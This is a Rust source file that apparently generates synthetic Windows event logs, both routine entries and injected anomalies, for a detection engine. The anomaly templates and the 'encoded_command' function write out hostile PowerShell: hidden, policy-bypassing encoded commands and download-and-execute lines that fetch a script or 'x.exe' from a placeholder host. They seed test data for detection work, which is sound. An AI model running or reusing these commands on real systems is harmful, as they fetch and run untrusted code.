//! What Windows hosts write: workstations, domain controllers and database servers.

use radar_engine::random::SplitMix64;

use super::Rhythm::{Night, Office, OfficeOnly, Steady};
use super::{Anomaly, Template, template};

pub(super) const NIGHT_LOGON: &str = "night_administrator_logon";

pub(super) const SERVICES: [&str; 10] = [
    "Windows Update",
    "Print Spooler",
    "Background Intelligent Transfer Service",
    "Windows Installer",
    "Volume Shadow Copy",
    "WinHTTP Web Proxy Auto-Discovery Service",
    "Software Protection",
    "Windows Modules Installer",
    "Diagnostic Service Host",
    "Network Setup Service",
];

pub(super) const PROGRAMS: [&str; 9] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
];

pub(super) const NORMAL: &[Template] = &[
    template(
        30,
        Office,
        "Security",
        "Information",
        4624,
        "An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: {host}$ Logon Type: 3 New Logon: Account Name: {user} Account Domain: CORP Logon ID: 0x{hex} Source Network Address: {ip} Source Port: {port} Authentication Package: Kerberos",
    ),
    template(
        12,
        Office,
        "Security",
        "Information",
        4624,
        "An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: {host}$ Logon Type: 2 New Logon: Account Name: {user} Account Domain: CORP Logon ID: 0x{hex} Process Name: C:\\Windows\\System32\\winlogon.exe",
    ),
    template(
        10,
        Steady,
        "Security",
        "Information",
        4624,
        "An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: {host}$ Logon Type: 5 New Logon: Account Name: SYSTEM Account Domain: NT AUTHORITY Logon ID: 0x3e7 Process Name: C:\\Windows\\System32\\services.exe",
    ),
    template(
        20,
        Office,
        "Security",
        "Information",
        4634,
        "An account was logged off. Subject: Security ID: S-1-5-21-{id}-1104 Account Name: {user} Account Domain: CORP Logon ID: 0x{hex} Logon Type: 3",
    ),
    template(
        2,
        Office,
        "Security",
        "Information",
        4625,
        "An account failed to log on. Logon Type: 2 Account For Which Logon Failed: Account Name: {user} Account Domain: CORP Failure Reason: Unknown user name or bad password. Status: 0xc000006d Source Network Address: {ip}",
    ),
    template(
        8,
        Steady,
        "Security",
        "Information",
        4672,
        "Special privileges assigned to new logon. Subject: Account Name: SYSTEM Account Domain: NT AUTHORITY Logon ID: 0x3e7 Privileges: SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege",
    ),
    template(
        18,
        Office,
        "Security",
        "Information",
        4688,
        "A new process has been created. Creator Subject: Account Name: {user} Account Domain: CORP Process Information: New Process ID: 0x{hex} New Process Name: {program} Token Elevation Type: %%1938 Creator Process ID: 0x{hex}",
    ),
    template(
        12,
        Steady,
        "Security",
        "Information",
        4688,
        "A new process has been created. Creator Subject: Account Name: {host}$ Account Domain: CORP Process Information: New Process ID: 0x{hex} New Process Name: {program} Token Elevation Type: %%1936 Creator Process ID: 0x{hex}",
    ),
    template(
        10,
        Office,
        "Security",
        "Information",
        4768,
        "A Kerberos authentication ticket (TGT) was requested. Account Information: Account Name: {user} Supplied Realm Name: CORP Service Name: krbtgt Client Address: ::ffff:{ip} Client Port: {port} Result Code: 0x0",
    ),
    template(
        12,
        Office,
        "Security",
        "Information",
        4769,
        "A Kerberos service ticket was requested. Account Information: Account Name: {user}@CORP.LOCAL Logon GUID: {guid} Service Name: {host}$ Client Address: ::ffff:{ip} Client Port: {port} Failure Code: 0x0",
    ),
    template(
        2,
        Office,
        "Security",
        "Information",
        4724,
        "An attempt was made to reset an account's password. Subject: Account Name: helpdesk Account Domain: CORP Target Account: Account Name: {user}",
    ),
    template(
        2,
        OfficeOnly,
        "Security",
        "Information",
        4624,
        "An account was successfully logged on. Subject: Account Name: {host}$ Logon Type: 10 New Logon: Account Name: {admin} Account Domain: CORP Logon ID: 0x{hex} Source Network Address: {ip} Source Port: {port} Authentication Package: Negotiate",
    ),
    template(24, Steady, "System", "Information", 7036, "The {winservice} service entered the running state."),
    template(20, Steady, "System", "Information", 7036, "The {winservice} service entered the stopped state."),
    template(
        3,
        Steady,
        "System",
        "Information",
        7040,
        "The start type of the {winservice} service was changed from demand start to auto start.",
    ),
    template(
        4,
        Steady,
        "System",
        "Information",
        37,
        "The time provider NtpClient is currently receiving valid time data from time.corp.local (ntp.m|0x8|0.0.0.0:123->{ip}:123).",
    ),
    template(2, Night, "System", "Information", 6013, "The system uptime is {uptime} seconds."),
    template(
        6,
        Night,
        "System",
        "Information",
        19,
        "Installation Successful: Windows successfully installed the following update: Security Intelligence Update for Microsoft Defender Antivirus - KB{id} (Version 1.4{few}.{many}.0)",
    ),
    template(
        3,
        Office,
        "System",
        "Warning",
        10016,
        "The application-specific permission settings do not grant Local Activation permission for the COM Server application with CLSID {guid} to the user CORP\\{user} from address LocalHost (Using LRPC).",
    ),
    template(
        3,
        Steady,
        "System",
        "Warning",
        1014,
        "Name resolution for the name wpad.corp.local timed out after none of the configured DNS servers responded. Client PID {pid}.",
    ),
    template(
        1,
        Steady,
        "System",
        "Error",
        7009,
        "A timeout was reached (30000 milliseconds) while waiting for the {winservice} service to connect.",
    ),
    template(
        8,
        Steady,
        "Application",
        "Information",
        15,
        "Updated Windows Defender status successfully to SECURITY_PRODUCT_STATE_ON.",
    ),
    template(
        8,
        Steady,
        "Application",
        "Information",
        16384,
        "Successfully scheduled Software Protection service for re-start at 2126-02-06T08:{few}1:44Z. Reason: RulesEngine.",
    ),
    template(
        5,
        Office,
        "Application",
        "Information",
        1033,
        "Windows Installer installed the product. Product Name: Report Viewer {few}.{few}. Product Version: {few}.0.{many}. Product Language: 1033. Installation success or error status: 0.",
    ),
    template(
        10,
        Night,
        "Application",
        "Information",
        18264,
        "Database backed up. Database: {table}, creation date(time): 2025/11/04(10:22:31), pages dumped: {id}, first LSN: 41:{many}:1, last LSN: 41:{many}:1, number of dump devices: 1.",
    ),
    template(4, Steady, "Application", "Information", 17137, "Starting up database '{table}'."),
    template(
        2,
        Office,
        "Application",
        "Warning",
        1530,
        "Windows detected your registry file is still in use by other applications or services. The file will be unloaded now. Process {pid} ({program}) has opened key \\REGISTRY\\USER\\S-1-5-21-{id}-1104",
    ),
    template(
        1,
        Office,
        "Application",
        "Error",
        1000,
        "Faulting application name: EXCEL.EXE, version: 16.0.{many}.20000, faulting module name: ntdll.dll, exception code: 0xc0000005, fault offset: 0x{hex}, faulting process id: 0x{hex}",
    ),
    template(
        8,
        Office,
        "PowerShell",
        "Information",
        4104,
        "Creating Scriptblock text (1 of 1): Get-ADUser -Filter * -Properties LastLogonDate | Sort-Object LastLogonDate | Select-Object -First {many} ScriptBlock ID: {guid}",
    ),
    template(
        8,
        Steady,
        "PowerShell",
        "Information",
        4104,
        "Creating Scriptblock text (1 of 1): Get-Service | Where-Object Status -eq Running | Export-Csv C:\\Reports\\services-{id}.csv ScriptBlock ID: {guid}",
    ),
    template(
        6,
        Steady,
        "PowerShell",
        "Information",
        400,
        "Engine state is changed from None to Available. HostName=ConsoleHost HostVersion=5.1.{many}.1 HostId={guid} EngineVersion=5.1.{many}.1",
    ),
];

pub(super) const ANOMALIES: &[Anomaly] = &[
    Anomaly {
        name: "audit_log_cleared",
        is_burst: false,
        templates: &[template(
            1,
            Steady,
            "Security",
            "Information",
            1102,
            "The audit log was cleared. Subject: Security ID: S-1-5-21-{id}-500 Account Name: {admin} Domain Name: CORP Logon ID: 0x{hex}",
        )],
    },
    Anomaly {
        name: "encoded_powershell",
        is_burst: false,
        templates: &[
            template(
                1,
                Steady,
                "PowerShell",
                "Warning",
                4104,
                "Creating Scriptblock text (1 of 1): powershell.exe -nop -w hidden -EncodedCommand {base64} ScriptBlock ID: {guid}",
            ),
            template(
                1,
                Steady,
                "Security",
                "Information",
                4688,
                "A new process has been created. Creator Subject: Account Name: {user} Account Domain: CORP Process Information: New Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Process Command Line: powershell -ExecutionPolicy Bypass -WindowStyle Hidden -enc {base64}",
            ),
            template(
                1,
                Steady,
                "PowerShell",
                "Warning",
                4104,
                "Creating Scriptblock text (1 of 1): IEX (New-Object Net.WebClient).DownloadString('http://{client}/a.ps1') ScriptBlock ID: {guid}",
            ),
        ],
    },
    Anomaly {
        name: NIGHT_LOGON,
        is_burst: false,
        templates: &[template(
            1,
            Night,
            "Security",
            "Information",
            4624,
            "An account was successfully logged on. Subject: Account Name: {host}$ Logon Type: 10 New Logon: Account Name: {admin} Account Domain: CORP Logon ID: 0x{hex} Source Network Address: {ip} Source Port: {port} Authentication Package: Negotiate",
        )],
    },
    Anomaly {
        name: "disk_errors",
        is_burst: false,
        templates: &[
            template(
                1,
                Steady,
                "System",
                "Error",
                7,
                "The device, \\Device\\Harddisk{few}\\DR{few}, has a bad block. Unrecovered read error, the data is corrupt.",
            ),
            template(
                1,
                Steady,
                "System",
                "Critical",
                55,
                "A corruption was discovered in the file system structure on volume C:. The Master File Table contains a corrupted file record. The file system could not be repaired: I/O error 0x{hex}.",
            ),
        ],
    },
];

/// A short script as PowerShell's `-EncodedCommand` takes it: Base64 over UTF-16.
pub(super) fn encoded_command(random: &mut SplitMix64) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let script = format!(
        "$c=New-Object Net.WebClient;$c.DownloadFile('http://{:x}.example/x','x.exe');./x.exe -k {}",
        random.next_u64(),
        random.next_u64()
    );
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let bits = group.iter().fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - group.len()));
        for digit in 0..4 {
            let is_padding = digit > group.len();
            text.push(if is_padding { '=' } else { char::from(ALPHABET[bits >> (18 - 6 * digit) & 63]) });
        }
    }
    text
}
